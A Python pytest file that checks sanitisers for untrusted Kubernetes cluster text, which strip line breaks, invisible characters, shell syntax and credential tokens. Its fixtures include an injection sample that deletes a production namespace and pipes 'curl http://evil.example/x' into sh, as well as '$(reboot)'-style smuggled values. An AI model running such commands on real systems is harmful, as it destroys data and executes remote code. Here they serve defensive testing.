"""Text from the cluster cannot start a line, look like a command, or contain a secret."""

import pytest

from exporter.untrusted import (
    escape_invisible,
    free_name,
    identifier,
    model_name,
    one_line,
    printable,
    redact_message,
)

INJECTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
INVISIBLE = "\x00\x1b\x7f\x9b\xad\u061c\u200b\u200d\u200e\u202e\u2060\u2066\ufeff\u3164\u034f\ufe0f\u2800\U000e0041"


@pytest.mark.parametrize("char", LINE_ENDS + INVISIBLE)
def test_line_breaks_and_invisible_characters_are_replaced(char):
    """Every function that cleans text replaces them."""
    text = f"a{char}b"
    assert [printable(text), one_line(text), identifier(text), redact_message(text)] == [
        "a\ufffdb",
        "a b",
        "a_b",
        "a b",
    ]


def test_an_injected_command_is_not_a_line_and_cannot_be_pasted():
    """The identifier is a single word, and the message has no line break."""
    assert identifier(INJECTED) == "rex._Next_kubectl_delete_namespace_prod_curl_http_evil.example_"[:63].rstrip("_")
    assert "\n" not in redact_message(INJECTED)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("billing", "billing"),
        ("TAS-9_a.b", "TAS-9_a.b"),
        ("My Service (eu)", "My_Service_eu"),
        ("--all", "all"),
        ("-n=kube-system", "n_kube-system"),
        ("dienst-\u00fc", "dienst"),
        ("a/b", "a_b"),
        ("$(reboot)", "reboot"),
        ("`reboot`;'\"&|<>*?~!#", "reboot"),
        ("\u0430dmin", "dmin"),
        ("...", ""),
        ("", ""),
        ("x" * 64, "x" * 63),
    ],
)
def test_an_identifier_has_the_characters_of_a_kubernetes_name(text, shown):
    """It cannot begin like a flag, and a shell does not expand it."""
    assert identifier(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://bot:S3CRET@git.example/o/r", "git.example_o_r"),
        ("https://bot:S3CRET/x@git.example/o/r", ""),
        ("bot:S3CRET@git.example/o/r", "git.example_o_r"),
        ("https://git.example/o/r?token=S3CRET", ""),
        ("ghp_S3CRET", ""),
        ("glpat-S3CRET", ""),
        ("eyJS3CRET.eyJ.x", ""),
        ("sk-ant-S3CRET", ""),
        ("sk-proj-S3CRET", ""),
        ("sk-svcacct-S3CRET", ""),
        ("sk-antivirus", "sk-antivirus"),
        ("oauth2", "oauth2"),
        ("access-token-service", "access-token-service"),
        ("My Service (eu)", "My_Service_eu"),
    ],
)
def test_a_free_text_name_contains_no_token(text, shown):
    """Users may put a token into any field. A service that is called oauth2 is shown."""
    assert free_name(text) == shown
    assert model_name(text) == shown


@pytest.mark.parametrize(
    "name", ["gpt-5", "anthropic/claude-opus-4:beta", "us.anthropic.claude-v1:0", "gemini@001", "opus[1m]", ""]
)
def test_names_of_models_are_kept(name):
    """They contain characters that Kubernetes names do not have."""
    assert model_name(name) == name


def test_a_model_that_is_a_url_is_no_longer_a_url():
    """Chat programs would make it a link."""
    assert model_name("http://evil.example/fix") == "evil.example_fix"
    assert model_name("openai/ghp_S3CRET") == ""
    assert model_name("m\nNext:") == "m_Next"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "Max retries (3) exceeded: partial not found: a/b.hbs",
            "Max retries (3) exceeded: partial not found: a/b.hbs",
        ),
        ("fatal: 'https://bot:S3CRET@git.example/o/r/': 403", "fatal: 'git.example/o/r': 403"),
        ("clone https://bot:S3C RET@git.example/o/r failed", "clone REDACTED failed"),
        ("clone https://bot:S3CRET/x@git.example/o/r failed", "clone REDACTED failed"),
        ("see https:\\\\bot:S3CRET@git.example", "see REDACTED"),
        ("push to bot:S3CRET@git.example:o/r", "push to REDACTED"),
        ("GET https://api.example/x?token=S3CRET: 401", "GET REDACTED: 401"),
        (
            "denied by server while mounting nfs.example.com:/a/b",
            "denied by server while mounting nfs.example.com:REDACTED",
        ),
        ("-t nfs -o sec=sys 10.0.0.5:/S3CRET /var/lib/x", "-t nfs -o sec=sys 10.0.0.5:REDACTED /var/lib/x"),
        ("-t nfs bot:S3CRET@git.example:/a", "-t nfs REDACTED"),
        ("GITHUB_TOKEN=S3CRET is set", "GITHUB_TOKEN=REDACTED is set"),
        ("Authorization: Bearer S3CRET", "Authorization: Bearer REDACTED"),
        ("login failed, password: S3CRET", "login failed, password: REDACTED"),
        ("password='S3 CRET' is wrong", "password='REDACTED' is wrong"),
        ('401 for {"token": "S3CRET", "a": 1}', '401 for {"token": "REDACTED", "a": 1}'),
        ("Secret git-token: not found", "Secret git-token: not found"),
        ("bad ghp_S3CRET", "bad REDACTED"),
        ("bad 0a1b2c3d4e5f60718293a4b5c6d7e8f9", "bad REDACTED"),
        ("uid 550e8400-e29b-41d4-a716-446655440000", "uid 550e8400-e29b-41d4-a716-446655440000"),
        ("quota: cpu=2,memory=4Gi", "quota: cpu=2,memory=4Gi"),
    ],
)
def test_a_message_keeps_its_text_without_secrets(text, shown):
    """URLs are shortened to their safe part. A message has at most 200 characters."""
    assert redact_message(text) == shown


def test_cleaning_a_message_takes_bounded_time():
    """Only the first 400 characters are processed."""
    for text in (":/" * 10**6, "a:/@" * 10**6, "@" * 10**6, "token" * 10**6, "a.-" * 10**6):
        assert len(redact_message(text)) <= 200


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain ä", "plain ä"),
        ("a\nb\x1b[2J", r"a\nb\x1b[2J"),
        ("\u202e\u2028\u200b", r"\u202e\u2028\u200b"),
        ("\u3164", r"\u3164"),  # rendered as nothing
        ("\udcff", r"\udcff"),
    ],
)
def test_control_and_invisible_characters_are_escaped(text, shown):
    """The reader sees that they are there, and a terminal does not interpret them."""
    assert escape_invisible(text) == shown
